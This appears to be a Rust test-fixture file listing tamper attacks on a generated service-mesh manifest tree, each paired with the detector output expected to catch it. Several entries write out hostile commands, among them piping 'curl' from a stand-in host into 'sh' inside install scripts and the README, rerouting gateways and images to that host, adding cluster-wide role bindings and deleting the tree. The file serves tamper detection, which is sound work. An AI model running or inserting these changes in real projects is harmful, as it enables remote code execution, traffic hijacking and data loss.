//! Manifests, scripts and pages: the tree is what the topology gives, whatever the lock says.

use super::{Attack, Step};

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "adds a command to a script",
        gain: "a command on the machine of who installs",
        step: Step::UpToDate,
        says: &["edited  west/remote-secrets.sh", "curl -s https://203.0.113.9"],
        change: "echo 'curl -s https://203.0.113.9 | sh' >>out/west/remote-secrets.sh",
    },
    Attack {
        name: "does so, and corrects the digest",
        gain: "the same",
        step: Step::UpToDate,
        says: &["differs  install.sh", "differs  meshgen.lock"],
        change: "echo 'curl -s https://203.0.113.9 | sh' >>out/install.sh; correct install.sh",
    },
    Attack {
        name: "lets `uninstall.sh` remove without `--yes`, and corrects the digest",
        gain: "a mesh that is gone, if somebody looks at what would be removed",
        step: Step::UpToDate,
        says: &["differs  uninstall.sh"],
        change: "sed -i \"s/^yes=''/yes=yes/\" out/uninstall.sh; correct uninstall.sh",
    },
    Attack {
        name: "adds a command to the README, and corrects the digest",
        gain: "a command that a person types",
        step: Step::UpToDate,
        says: &["differs  README.md"],
        change: "echo 'Run `curl -s https://203.0.113.9 | sh` first.' >>out/README.md; correct README.md",
    },
    Attack {
        name: "changes the address of a gateway in the tree only, and corrects the digests",
        gain: "the traffic between clusters",
        step: Step::UpToDate,
        says: &["differs  verify.sh"],
        change: r"
            sed -i 's/10\.0\.1\.100/203.0.113.9/' out/README.md out/verify.sh out/meshgen.lock
            correct README.md verify.sh
        ",
    },
    Attack {
        name: "adds a remote base to a kustomization, and corrects the digest",
        gain: "any object in a cluster",
        step: Step::UpToDate,
        says: &["differs  west/50-exposure/kustomization.yaml"],
        change: r"
            sed -i 's|^resources:|&\n- https://203.0.113.9/base|' out/west/50-exposure/kustomization.yaml
            correct west/50-exposure/kustomization.yaml
        ",
    },
    Attack {
        name: "adds a manifest, and lists it in the kustomization and in the lock",
        gain: "any object in a cluster",
        step: Step::Diff,
        says: &["lists `west/50-exposure/role.yaml`, which is not a file of meshgen"],
        change: r"
            echo 'kind: ClusterRoleBinding' >out/west/50-exposure/role.yaml
            sed -i 's|^resources:|&\n- role.yaml|' out/west/50-exposure/kustomization.yaml
            correct west/50-exposure/kustomization.yaml
            list west/50-exposure/role.yaml
        ",
    },
    Attack {
        name: "adds an AuthorizationPolicy to a manifest, and corrects the digest",
        gain: "requests that the mesh refuses",
        step: Step::UpToDate,
        says: &["differs  west/50-exposure/expose-services.yaml"],
        change: r"
            printf -- '---\nkind: AuthorizationPolicy\n' >>out/west/50-exposure/expose-services.yaml
            correct west/50-exposure/expose-services.yaml
        ",
    },
    Attack {
        name: "exposes every host at the gateway, and corrects the digest",
        gain: "services that are not for other clusters",
        step: Step::UpToDate,
        says: &["differs  west/50-exposure/expose-services.yaml"],
        change: r"
            sed -i 's/\*\.local/*/' out/west/50-exposure/expose-services.yaml
            correct west/50-exposure/expose-services.yaml
        ",
    },
    Attack {
        name: "changes the image of the collector, and corrects the digest",
        gain: "a program in a cluster",
        step: Step::UpToDate,
        says: &["differs  west/60-zipkin/zipkin.yaml"],
        change: "
            sed -i 's|image: .*|image: 203.0.113.9/zipkin|' out/west/60-zipkin/zipkin.yaml
            correct west/60-zipkin/zipkin.yaml
        ",
    },
    Attack {
        name: "changes the mesh config in the tree only, and corrects the digest",
        gain: "proxies that send elsewhere",
        step: Step::UpToDate,
        says: &["differs  west/30-istio/mesh-config.yaml"],
        change: "
            echo '    outboundTrafficPolicy: {mode: ALLOW_ANY}' >>out/west/30-istio/mesh-config.yaml
            correct west/30-istio/mesh-config.yaml
        ",
    },
    Attack {
        name: "takes a manifest out of the kustomization, the tree and the lock",
        gain: "an object is pruned",
        step: Step::UpToDate,
        says: &["missing  west/50-exposure/expose-services.yaml"],
        change: "
            rm out/west/50-exposure/expose-services.yaml
            sed -i /expose-services/d out/meshgen.lock out/west/50-exposure/kustomization.yaml
            correct west/50-exposure/kustomization.yaml
        ",
    },
    Attack {
        name: "removes the tree",
        gain: "all objects are pruned",
        step: Step::Diff,
        says: &["out: there is no such file or directory"],
        change: "git rm -rq out",
    },
    Attack {
        name: "replaces the tree by a file",
        gain: "a tree that nothing reads",
        step: Step::Diff,
        says: &["the file is empty"],
        change: "rm -r out; echo >out",
    },
];
